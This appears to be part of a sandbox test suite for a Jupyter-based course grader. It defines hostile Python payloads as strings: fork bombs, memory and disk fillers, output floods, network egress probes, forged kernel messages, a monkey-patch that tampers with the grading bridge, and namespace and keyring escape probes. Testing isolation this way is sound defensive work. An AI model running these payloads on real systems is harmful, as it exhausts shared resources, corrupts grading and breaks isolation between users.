        _paths = {targets!r}
        _deadline = _time.time() + 900
        while _time.time() < _deadline:
            for _path in _paths + sum((_glob.glob(g) for g in {globs!r}), []):
                try:
                    with open(_path, "a") as _handle:
                        _handle.write("HOSTILE" + "-WROTE")
                except OSError:
                    pass
            _time.sleep(0.5)
    _os._exit(0)
_os.waitpid(_child, 0)
_threading.Thread(target=_time.sleep, args=(900,)).start()
_atexit.register(_time.sleep, 900)
_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
print("LINGER-DONE")
"""

NETWORK = """\
import socket as _socket

_tries = [("1.1.1.1", 53), ("1.1.1.1", 443), ("8.8.8.8", 53), ("127.0.0.1", 22),
          ("127.0.0.1", 80)] + [("127.0.0.1", _port) for _port in {ports!r}]
for _host, _port in _tries:
    try:  # the sandbox refuses the socket itself (EAFNOSUPPORT), or the connection
        with _socket.socket() as _s:
            _s.settimeout(3)
            _s.connect((_host, _port))
            print("NET-OPEN", _host, _port)
    except OSError as _error:
        print("refused", _host, _port, _error)
try:
    _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _u.sendto(b"x", ("1.1.1.1", 53))
    print("NET-OPEN udp")
except OSError as _error:
    print("udp refused", _error)
try:
    print("NET-OPEN dns", _socket.getaddrinfo("example.com", 80))
except OSError as _error:
    print("dns refused", _error)
print("NET-DONE")
"""

FORK_BOMB = """\
import threading as _threading
import time as _time

_children = []
for _ in range(1000):
    try:
        _pid = _os.fork()
    except OSError as _error:
        print("fork refused:", _error)
        break
    if _pid == 0:
        _time.sleep(1)
        _os._exit(0)
    _children.append(_pid)
print("FORKED", len(_children))
for _pid in _children:
    _os.waitpid(_pid, 0)
_threads = 0
for _ in range(1000):
    try:
        _threading.Thread(target=_time.sleep, args=(1,), daemon=True).start()
    except RuntimeError as _error:
        print("thread refused:", _error)
        break
    _threads += 1
print("THREADS", _threads)
_time.sleep(1.5)
print("BOMB-DONE")
"""

MEMORY_HOG = """\
_hog = bytearray(8 * 2**30)
"""

DISK_FILLER = """\
_chunk = b"x" * (16 * 2**20)
for _folder in ("/tmp", _os.path.expanduser("~"), "/dev/shm", "/var/tmp", "/"):
    _total, _largest, _n, _full = 0, 0, 0, False
    while not _full and _total < 2 * 2**30:
        _n += 1
        _size = 0
        try:
            with open(f"{_folder}/fill-{_n}", "wb") as _handle:
                while _size < 128 * 2**20:
                    _handle.write(_chunk)
                    _handle.flush()
                    _size += len(_chunk)
        except OSError as _error:
            _full = _error.errno != 27  # EFBIG: the file is full, try another
            if _n == 1 and _size == 0:
                print("cannot write in", _folder, _error)
        try:
            _size = _os.path.getsize(f"{_folder}/fill-{_n}")
        except OSError:
            _size = 0
        _total += _size
        _largest = max(_largest, _size)
    print("DISK", _total, _folder)
    print("LARGEST", _largest, _folder)
print("DISK-DONE")
"""

HUGE_OUTPUT = """\
import sys as _sys

from IPython.display import HTML as _HTML
from IPython.display import display as _display

for _ in range(30000):
    print("x" * 100)
_sys.stdout.write("y" * 2_000_000)
_os.write(1, b"z" * 2_000_000)
_display(_HTML("<p>" + "w" * 2_000_000 + "</p>"))
"""

DISPLAY_UPDATE = """\
from IPython.display import display as _display
from IPython.display import update_display as _update

_display({"text/plain": "small"}, raw=True, display_id="grow")
_update({"text/plain": "A" * 3_000_000}, raw=True, display_id="grow")
"""

SHARED_DISPLAY_ID = """\
from IPython.display import display as _display
from IPython.display import update_display as _update

for _ in range(30):
    _display({"text/plain": "."}, raw=True, display_id="same")
_update({"text/plain": "E" * 100_000}, raw=True, display_id="same")
"""

OUTPUT_METADATA = """\
from IPython.display import display as _display

_display({"text/plain": "tiny"}, metadata={"junk": "B" * 3_000_000}, raw=True)
"""

REPLY_ERROR = """\
get_ipython()._showtraceback = lambda *args, **kwargs: None
raise ValueError("C" * 3_000_000)
"""

# In the answer function: its error crosses the bridge with a 3 MB name and message.
JUDGE_ERROR = """\
import sys as _sys

_bridge = _sys.modules["course_bridge"]
if not hasattr(_bridge, "_plain"):
    _bridge._plain = _bridge.describe_error
    _bridge.describe_error = lambda error: (
        dict(_bridge._plain(error), type="E" * 3_000_000, message="D" * 3_000_000)
        if "INFLATE" in str(error) else _bridge._plain(error))
raise ValueError("INFLATE")
"""

FORGED_MESSAGES = """\
_kernel = get_ipython().kernel


def _send(kind, content):
    _kernel.session.send(_kernel.iopub_socket, kind, content,
                         parent=_kernel.get_parent("shell"))


_send("execute_input", {"code": "", "execution_count": "NOT A COUNT " * 1000})
_send("display_data", {"data": {"text/plain": 5}, "metadata": {}})
_send("comm_open", {"comm_id": "c", "target_name": "t", "data": {
    "state": {"_model_name": "M", "junk": "F" * 3_000_000}, "buffer_paths": []}})
print("FORGED-DONE")
"""

MEMFD_HOG = """\
import ctypes as _ctypes

_held, _fds = 0, []
try:
    while True:
        print("HELD", _held, flush=True)  # as it goes: a cap may end the kernel
        if _held >= {most} * 2**20:
            break
        _fds.append(_os.memfd_create("hog"))
        _os.posix_fallocate(_fds[-1], 0, 64 * 2**20)  # real pages, at once
        _held += 64 * 2**20
except OSError as _error:
    print("refused:", _error)
for _fd in _fds:
    _os.close(_fd)
# System V shared memory, 64 MB a segment (IPC_PRIVATE, IPC_CREAT | 0600)
_libc = _ctypes.CDLL(None, use_errno=True)
_segment = _libc.shmget(0, 64 * 2**20, 0o1000 | 0o600)
print("SHM-OPEN" if _segment >= 0 else "refused shmget")
# Semaphore sets and message queues: kernel memory outside every process's RSS
# (32,000 semaphores a set, a few MB of slab each)
print("SEM-OPEN" if _libc.semget(0, 32000, 0o1000 | 0o600) >= 0 else "refused semget")
print("MSG-OPEN" if _libc.msgget(0, 0o1000 | 0o600) >= 0 else "refused msgget")
print("MEMFD-DONE")
"""

NAMESPACES = """\
import ctypes as _ctypes

_libc = _ctypes.CDLL(None, use_errno=True)
for _name, _flags in (("user", 0x10000000), ("user+mount", 0x10000000 | 0x20000)):
    _child = _os.fork()
    if _child == 0:  # in a child, so that the kernel itself stays where it is
        _os._exit(0 if _libc.unshare(_flags) == 0 else 1)
    _, _status = _os.waitpid(_child, 0)
    print("USERNS-OPEN" if _status == 0 else "refused", _name)
# A session of its own is a scheduler autogroup of its own (busy processes in
# forty of them starve the classmates graded beside); the uid's keyring outlives
# the sandbox and is read by the next student the worker grades.
_child = _os.fork()
if _child == 0:
    _os._exit(0 if _libc.setsid() >= 0 else 1)
_, _status = _os.waitpid(_child, 0)
print("SETSID-OPEN" if _status == 0 else "refused setsid")
_key = _libc.syscall({add_key}, b"user", b"drop", b"answers", 7, -4)  # user keyring
print("KEY-OPEN" if _key >= 0 else "refused add_key")
_found = _libc.syscall({request_key}, b"user", b"drop", None, 0)
print("KEY-OPEN" if _found >= 0 else "refused request_key")
# Internet sockets draw on the machine's TCP and UDP memory, which no namespace
# divides; vsock reaches the hypervisor past the network namespace; of netlink
# only the route family is open. Larger buffers would let
# Unix sockets queue more than the watchdog counts.
import socket as _socket

for _family, _kind, *_protocol in ((_socket.AF_INET, _socket.SOCK_STREAM),
                                   (_socket.AF_INET6, _socket.SOCK_STREAM),
                                   (16, _socket.SOCK_RAW, 9),  # netlink's audit
                                   (17, _socket.SOCK_DGRAM),  # AF_PACKET
                                   (40, _socket.SOCK_STREAM)):  # AF_VSOCK
    try:
        _socket.socket(_family, _kind, *_protocol).close()
        print("INET-OPEN", _family)
    except OSError as _error:
        print("refused", _family, _error.errno)
_a, _b = _socket.socketpair()
for _option in (_socket.SO_SNDBUF, _socket.SO_RCVBUF):
    try:
        _a.setsockopt(_socket.SOL_SOCKET, _option, 4 * 2**20)
        print("BUFFER-OPEN", _option)
    except OSError as _error:
        print("refused", _option, _error.errno)
print("NS-DONE")
"""

LOOP_FIRST_CALL = """\
global _first_call_done
try:
    _first_call_done
except NameError:
    _first_call_done = True
    while True:
        pass
"""

CPU_THREAD = """\
import hashlib as _hashlib
import threading as _threading

_buffer = bytes(32 * 2**20)


def _spin():
    while True:
        _hashlib.sha256(_buffer).digest()  # releases the GIL: a whole core


_threading.Thread(target=_spin, daemon=True).start()
"""

PROBE = """\
try:
    _reference()  # the reference wants arguments: TypeError means it is there
except TypeError:
    pass
"""
